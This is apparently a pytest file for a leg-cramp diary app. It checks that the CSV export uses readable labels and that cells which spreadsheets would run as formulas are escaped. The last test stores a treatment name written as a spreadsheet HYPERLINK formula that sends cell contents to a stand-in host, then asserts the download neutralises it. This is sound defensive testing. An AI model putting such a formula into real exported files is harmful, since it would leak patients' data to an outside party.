"""The CSV download: nothing a spreadsheet would run as a formula."""

import csv
import io
from datetime import date

import pytest

from diary.domain.records import CrampRecord, NightRecord
from diary.output.exports import nights_csv


def _notes(text: str) -> str:
    rows = list(
        csv.DictReader(io.StringIO(nights_csv([NightRecord(date(2026, 11, 20), notes=text)])))
    )
    return rows[0]["notes"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_cell_a_spreadsheet_would_run_is_neutralised(start):
    assert _notes(f"{start}1+1") == f"'{start}1+1"


def test_plain_text_is_left_as_it_is():
    assert _notes("slept 1-2 hours") == "slept 1-2 hours"


def _rows(*nights) -> list[dict]:
    return list(csv.DictReader(io.StringIO(nights_csv(nights))))


def test_cells_use_the_words_the_pages_use_not_the_codes():
    cramp = CrampRecord(
        "thigh_back", "both", 3, 5, True, frozenset({"walk_or_jiggle", "flex_foot"}), "full"
    )
    night = NightRecord(
        date(2026, 11, 20),
        daytime_impairment="moderate",
        prevention=frozenset({"stretching", "fluids"}),
        symptoms=frozenset({"muscle_weakness"}),
        red_flags=frozenset({"leg_swollen", "dark_urine"}),
        cramps=(cramp,),
    )
    (row,) = _rows(night)
    assert row["muscle"] == "Back of thigh" and row["side"] == "Both"
    assert row["remedies"] == "Flexed my foot up; Walked or jiggled my leg"
    assert row["relief"] == "Full relief"
    assert row["daytime_impairment"] == "Moderate"
    assert row["prevention"] == "Plenty of fluids; Stretched my legs"
    assert row["symptoms"] == "Muscle weakness"
    assert row["red_flags"] == (
        "One calf or leg is swollen, red, warm or tender, even between cramps; "
        "Dark, tea- or cola-coloured urine since the cramps"
    )


def test_a_quiet_night_leaves_the_words_empty_not_a_code():
    (row,) = _rows(NightRecord(date(2026, 11, 20)))
    assert [row[column] for column in ("daytime_impairment", "muscle", "relief")] == ["", "", ""]


def test_a_treatment_name_in_the_downloaded_csv_cannot_run_as_a_formula(patient, patient_client):
    """Through the download a clinician opens in a spreadsheet, not the builder alone."""
    from datetime import timedelta

    from diary.domain.records import TreatmentRecord
    from diary.services.dates import patient_today
    from diary.services.nights import night_save
    from diary.services.treatments import treatment_save

    today = patient_today(patient)
    night = today - timedelta(days=1)
    night_save(patient=patient, record=NightRecord(night))
    name = '=HYPERLINK("http://x.example/?"&A1,"Open")'
    treatment_save(
        patient=patient,
        record=TreatmentRecord(name, "magnesium", night - timedelta(days=3)),
        today=today,
    )
    response = patient_client.get("/summary/csv/?range=30")
    rows = list(csv.DictReader(io.StringIO(response.getvalue().decode())))
    taken = [row["treatments"] for row in rows if row["treatments"]]
    assert taken == ["'" + name]
